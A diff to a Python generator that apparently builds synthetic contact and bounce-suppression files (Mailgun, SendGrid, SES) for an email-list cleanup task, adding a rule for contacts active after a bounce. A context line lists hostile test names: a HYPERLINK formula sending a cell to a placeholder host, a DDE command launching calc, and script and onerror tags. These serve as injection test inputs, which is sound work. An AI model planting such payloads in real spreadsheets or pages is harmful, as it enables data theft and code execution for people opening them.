@@ -124,6 +124,8 @@ HEADERS_JA = ["会員ID", "お名前", "メールアドレス", "最終ログイ
 HOSTILE_NAMES = ['=HYPERLINK("http://warui.example/?"&C2,"当選")', "<script>alert(1)</script>", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
                  "'=1+1", '"><img src=x onerror=alert(1)>', "＝１＋１", "=cmd|' /C calc'!A0", "</td></tr></table><h1>見出し</h1>"]
 
+BOUNCED = (20, 60)  # days since the bounces
+
 
 class Japanese:
     def __init__(self):
@@ -242,9 +244,12 @@ class Japanese:
         plan = [("mailgun_bounces", 14), ("mailgun_complaints", 8), ("mailgun_unsubscribes", 18), ("sendgrid_bounces", 12),
                 ("sendgrid_spam", 6), ("ses", 10), ("manual", 7)]
         for name, count in plan:
+            bounced = name in ("mailgun_bounces", "sendgrid_bounces", "ses")
             for i in range(count):
                 address = self.clean_address()
-                self.person(address, sign=self.active())
+                # Whoever shows life after a bounce is held, and two do.
+                lived = bounced and not (name == "mailgun_bounces" and i < 2)
+                self.person(address, sign=self.maker.random.randint(BOUNCED[1] + 1, 175) if lived else self.active())
                 self.lists[name].append(self.as_listed(address, i))
         # On two lists at once: the stronger reason is told.
         both = self.clean_address()
@@ -470,8 +475,8 @@ def weekday_stamp(day, maker):
             f"{maker.random.randrange(60):02d} UTC")
 
 
-def mailgun(header, row, entries, maker):
-    lines = [header] + [row(a, f'"{weekday_stamp(maker.day(20, 900), maker)}"') for a in entries]
+def mailgun(header, row, entries, maker, days=(20, 900)):
+    lines = [header] + [row(a, f'"{weekday_stamp(maker.day(*days), maker)}"') for a in entries]
     return ("\n".join(lines) + "\n").encode()
 
 
@@ -482,7 +487,7 @@ def epoch(day, maker):
 def sendgrid_bounces(entries, maker):
     lines = ["status,reason,email,created"]
     for a in entries:
-        lines.append(f'5.1.1,"550 5.1.1 The email account that you tried to reach does not exist",{a},{epoch(maker.day(20, 900), maker)}')
+        lines.append(f'5.1.1,"550 5.1.1 The email account that you tried to reach does not exist",{a},{epoch(maker.day(*BOUNCED), maker)}')
     return ("\n".join(lines) + "\n").encode()
 
 
@@ -496,7 +501,7 @@ def sendgrid_unsubscribes(entries, maker):
 
 def ses(entries, maker):
     items = [{"EmailAddress": a, "Reason": "COMPLAINT" if i % 4 == 1 else "BOUNCE",
-              "LastUpdateTime": f"{maker.day(20, 900).isoformat()}T08:53:20.123000+00:00"} for i, a in enumerate(entries)]
+              "LastUpdateTime": f"{maker.day(*BOUNCED).isoformat()}T08:53:20.123000+00:00"} for i, a in enumerate(entries)]
     return (json.dumps({"SuppressedDestinationSummaries": items}, indent=1) + "\n").encode()
 
 
@@ -529,7 +534,7 @@ def make():
         "campaign-ja.csv": ja.csv(),
         "campaign-en.csv": en.csv(),
         "mailgun-bounces.csv": mailgun("address,code,error,created_at", lambda a, t: f"{a},550,No such mailbox,{t}",
-                                       lists["mailgun_bounces"] + others(maker, 40), maker),
+                                       lists["mailgun_bounces"] + others(maker, 40), maker, BOUNCED),
         "mailgun-complaints.csv": mailgun("address,created_at", lambda a, t: f"{a},{t}", lists["mailgun_complaints"] + others(maker, 6),
                                           maker),
         "mailgun-unsubscribes.csv": mailgun("address,tags,created_at", lambda a, t: f"{a},*,{t}",
